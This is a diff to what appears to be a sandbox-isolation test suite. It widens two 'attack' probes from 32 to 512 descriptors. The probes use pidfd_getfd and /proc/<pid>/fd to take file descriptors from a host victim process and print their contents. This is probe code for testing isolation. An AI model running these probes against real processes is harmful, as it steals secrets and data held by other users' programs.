@@ -93,7 +93,7 @@ def descriptors(scene: Scene) -> object:
 @attack("secrets", "take a descriptor out of a process of the host")
 def take_descriptor(scene: Scene) -> object:
     process = os.pidfd_open(scene["victim"])
-    for number in range(3, 32):
+    for number in range(3, 512):
         with contextlib.suppress(OSError):
             os.write(1, os.pread(system_call(NUMBERS["pidfd_getfd"], process, number, 0), 4096, 0))
     return None
@@ -101,7 +101,7 @@ def take_descriptor(scene: Scene) -> object:
 
 @attack("secrets", "open the descriptors of a process of the host")
 def reopen_descriptor(scene: Scene) -> object:
-    return _show(*(f"/proc/{scene['victim']}/fd/{number}" for number in range(3, 32)))
+    return _show(*(f"/proc/{scene['victim']}/fd/{number}" for number in range(3, 512)))
 
 
 @attack("secrets", "attach shared memory of the host (System V)")
